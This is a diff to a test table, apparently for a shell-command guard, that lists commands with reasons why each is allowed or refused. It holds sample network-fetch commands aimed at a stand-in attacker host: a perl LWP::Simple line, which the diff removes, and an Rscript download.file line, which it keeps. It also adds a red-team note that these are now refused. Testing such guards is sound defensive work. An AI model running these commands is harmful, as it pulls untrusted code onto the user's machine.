@@ -34,12 +34,9 @@ LEFT_BOTH = {
         "an image's registry is the container runtime's to judge: the everyday image "
         "(``python:3.12``) names no host, and docker.io is not on a project's whitelist"
     ),
-    "perl -MLWP::Simple -e 'getprint \"http://evil.example\"'": _CODE,
+    # round 22 (redteam22): perl's ``-MLWP::Simple`` is read with its ``-e`` code, and a pip
+    # or python named by a system directory is not the virtualenv's: both refused now
     'Rscript -e \'download.file("http://evil.example/x", "x")\'': _CODE,
-    "/usr/bin/python3 -m pip install x": (
-        "the guard does not know where the virtualenv's interpreter lives; the system one by "
-        "path looks like any other python"
-    ),
     "python3 get-pip.py --user": (
         "a bootstrap script is a python script of the project's own name: what it installs "
         "is in its code"
